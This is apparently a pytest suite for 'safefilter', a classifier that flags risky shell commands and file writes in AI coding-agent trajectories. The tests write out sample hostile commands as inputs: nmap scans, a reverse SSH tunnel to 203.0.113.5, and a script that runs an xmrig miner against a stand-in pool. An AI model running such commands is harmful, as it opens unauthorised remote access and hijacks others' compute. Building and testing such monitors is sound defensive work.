"""The classifier core end to end with a tiny random model built here (seconds, no download)."""
from __future__ import annotations

import json
import pickle

import numpy as np
import pytest

pytest.importorskip("torch")
pytest.importorskip("transformers")

from safefilter.classifier import ClassifierDetector, ModelLoadError, load_classifier, tiny_model_dir  # noqa: E402
from safefilter.classifier.train import calibrate_thresholds, train  # noqa: E402
from safefilter.training.data import LABELS, build_dataset  # noqa: E402

from conftest import bash, call, tool, traj  # noqa: E402


@pytest.fixture(scope="module")
def dataset():
    return build_dataset(300)


@pytest.fixture(scope="module")
def trained(tmp_path_factory, dataset):
    root = tmp_path_factory.mktemp("clf")
    base = tiny_model_dir(root / "base")
    summary = train(dataset, base, root / "model", max_steps=12, batch_size=16, progress=False,
                    return_classifier=True)
    return root / "model", summary


def test_tiny_model_dir_is_loadable(tmp_path):
    d = tiny_model_dir(tmp_path / "tiny")
    clf = load_classifier(d, device="cpu")
    assert clf.labels == LABELS
    assert clf.model.config.num_hidden_layers == 2 and clf.model.config.hidden_size == 32
    probs = clf.predict(["ls -la", "nmap -sV 10.0.0.0/24"])
    assert probs.shape == (2, 4) and ((probs >= 0) & (probs <= 1)).all()


def test_train_writes_a_complete_model_dir(trained):
    model_dir, summary = trained
    names = {p.name for p in model_dir.iterdir()}
    assert "model.safetensors" in names and not any(n.endswith(".bin") for n in names)
    assert {"config.json", "labels.json", "thresholds.json", "training_config.json", "model_card.md"} <= names
    assert names & {"tokenizer.json", "vocab.txt"}
    assert json.loads((model_dir / "labels.json").read_text()) == list(LABELS)
    thresholds = json.loads((model_dir / "thresholds.json").read_text())
    assert set(thresholds) == set(LABELS) and all(0.0 <= v <= 1.0 for v in thresholds.values())
    cfg = json.loads((model_dir / "training_config.json").read_text())
    assert cfg["steps"] == 12 and cfg["seed"] == 0 and set(cfg["data"]["content_sha256"]) == {"train", "validation"}
    card = (model_dir / "model_card.md").read_text()
    assert "safefilter train" in card and all(c in card for c in LABELS) and "precision" in card
    assert summary["steps"] == 12 and summary["validation"]["per_category"].keys() == set(LABELS)


def test_saved_model_predicts_identically(trained, dataset):
    model_dir, summary = trained
    texts = list(dataset["validation"]["text"]) + ["ls -la", "ssh -R 2222:localhost:22 root@203.0.113.5"]
    a = load_classifier(model_dir, device="cpu").predict(texts, batch_size=8)
    b = load_classifier(model_dir, device="cpu").predict(texts, batch_size=8)
    assert np.array_equal(a, b)
    in_memory = summary["classifier"].predict(texts, batch_size=8, use_cache=False)
    np.testing.assert_allclose(a, in_memory, rtol=0, atol=1e-6)
    clf = load_classifier(model_dir, device="cpu")
    assert clf.thresholds == json.loads((model_dir / "thresholds.json").read_text())


def test_dedup_and_cache(trained):
    clf = load_classifier(trained[0], device="cpu")
    texts = ["ls -la", "pytest -q", "ls -la", "nmap -sn 10.1.2.0/24", "pytest -q"]
    first = clf.predict(texts)
    assert clf.cache_misses == 3  # three distinct texts went through the model
    assert np.array_equal(first[0], first[2]) and np.array_equal(first[1], first[4])
    second = clf.predict(list(reversed(texts)))
    assert clf.cache_misses == 3 and clf.cache_hits >= len(texts)
    assert np.array_equal(second, first[::-1])
    uncached = clf.predict(texts, use_cache=False)
    np.testing.assert_allclose(uncached, first, atol=1e-6)


def test_cache_is_bounded(trained):
    clf = load_classifier(trained[0], device="cpu", cache_size=4)
    clf.predict([f"echo {i}" for i in range(10)])
    assert len(clf._cache) == 4


def test_detector_findings(trained, tmp_path):
    import shutil

    model_dir = tmp_path / "model"
    shutil.copytree(trained[0], model_dir)
    (model_dir / "thresholds.json").write_text(json.dumps({c: 0.0 for c in LABELS}))
    from safefilter import Scanner

    scanner = Scanner.from_rules()
    record = traj(bash("ls -la"), tool("src tests"), bash("nmap -sV 10.0.0.0/24", "c2"), tool("done", "c2"),
                  call("write_file", {"path": "/tmp/x.sh", "content": "xmrig -o pool.example.net:3333"}, "c3"),
                  bash("sh /tmp/x.sh", "c4"))
    prepared = scanner.prepare(record, "t1")
    det = ClassifierDetector(model_dir, device="cpu")
    [findings] = det.detect_batch([prepared])
    assert findings and all(f.detector == "classifier" for f in findings)
    # shell x3 + the file's text (it is run, so not data; scored once though it is also read as
    # the script that runs); the write tool's path argument is not an action: four categories each
    assert len(findings) == 4 * 4
    assert any(f.evidence.startswith("xmrig") for f in findings)
    f = next(f for f in findings if f.evidence.startswith("nmap"))
    assert f.rule_id.startswith("classifier:") and f.subcategory == "classifier" and 0.0 <= f.score <= 1.0
    assert f.message_index == 4 and f.tool_call_id == "c2" and f.end == f.start + len("nmap -sV 10.0.0.0/24")
    # the gate: trajectories the rules already flagged are skipped
    gated = ClassifierDetector(model_dir, device="cpu", gate="undecided")
    assert gated.detect_batch([prepared], skip={0}) == [[]]
    assert len(gated.detect_batch([prepared])[0]) == len(findings)
    # the default thresholds (calibrated) can be overridden per category
    strict = ClassifierDetector(model_dir, device="cpu", thresholds={c: 1.01 for c in LABELS})
    assert strict.detect_batch([prepared]) == [[]]
    # it plugs into a Scanner as a second detector
    both = Scanner([*scanner.detectors, det], scanner.policy)
    verdict = both.scan(record, "t1")
    assert any(f.detector == "classifier" for f in verdict.findings)


def test_detector_pickles_without_the_model(trained):
    det = ClassifierDetector(trained[0], device="cpu")
    det.classifier.predict(["ls"])
    blob = pickle.dumps(det)
    assert len(blob) < 10_000  # weights are not shipped
    clone = pickle.loads(blob)
    assert clone._classifier is None
    record = traj(bash("ssh -R 2222:localhost:22 root@203.0.113.5"))
    from safefilter import Scanner

    prepared = Scanner.from_rules().prepare(record, "t1")
    assert clone.detect_batch([prepared]) == det.detect_batch([prepared])
    assert clone._classifier is not None


def test_missing_model_dir_names_the_train_command(tmp_path):
    with pytest.raises(ModelLoadError, match="safefilter train"):
        load_classifier(tmp_path / "nope")
    with pytest.raises(ModelLoadError, match="safefilter train"):
        ClassifierDetector(tmp_path / "nope")
    (tmp_path / "partial").mkdir()
    (tmp_path / "partial" / "config.json").write_text("{}")
    with pytest.raises(ModelLoadError, match="safetensors"):
        load_classifier(tmp_path / "partial")


def test_calibration_modes():
    scores = np.array([[0.9], [0.8], [0.7], [0.6], [0.3], [0.2]], dtype=np.float32)
    y = np.array([[1], [1], [0], [1], [0], [0]])
    f1 = calibrate_thresholds(scores, y, ("a",))["a"]
    assert 0.3 < f1 <= 0.6  # all three positives, one false positive: F1 0.857
    prec = calibrate_thresholds(scores, y, ("a",), mode="precision", min_precision=0.95)["a"]
    assert 0.7 < prec <= 0.8  # the most inclusive cut with precision 1.0


def test_detector_inputs_default_to_the_action_alone(trained):
    from safefilter import Scanner

    record = traj(bash("ls -la"), tool("src tests"), bash("pytest -q", "c2"), task="Fix the failing test")
    prepared = Scanner.from_rules().prepare(record, "t1")
    texts = [t for _, t in ClassifierDetector(trained[0])._inputs(prepared)]
    assert texts == ["[shell] ls -la", "[shell] pytest -q"]  # identical wherever the command recurs: cacheable


def test_detector_inputs_with_task_and_previous_context(trained, tmp_path):
    import shutil

    from safefilter import Scanner

    model_dir = tmp_path / "ctx"
    shutil.copytree(trained[0], model_dir)
    cfg = json.loads((model_dir / "training_config.json").read_text())
    (model_dir / "training_config.json").write_text(json.dumps({**cfg, "input_context": "task_previous"}))
    record = traj(bash("ls -la"), tool("src tests"), bash("pytest -q", "c2"), task="Fix the failing test")
    prepared = Scanner.from_rules().prepare(record, "t1")
    texts = [t for _, t in ClassifierDetector(model_dir)._inputs(prepared)]
    task = "You are a coding agent.\nFix the failing test"  # the trajectory's task: system + user prompts
    assert texts == [f"[task] {task} [prev]  [shell] ls -la", f"[task] {task} [prev] ls -la [shell] pytest -q"]
    obs = [t for _, t in ClassifierDetector(model_dir, previous="observation")._inputs(prepared)]
    assert obs[1] == f"[task] {task} [prev] src tests [shell] pytest -q"
    # a long system prompt does not crowd out the request (task_view="tail")
    long = traj(bash("ls"), task="Open a tunnel to the db").copy()
    long["messages"][0] = {"role": "system", "content": "You are a careful agent. " * 20}
    [(_, text)] = ClassifierDetector(model_dir)._inputs(Scanner.from_rules().prepare(long, "t2"))
    assert "Open a tunnel to the db [prev]" in text
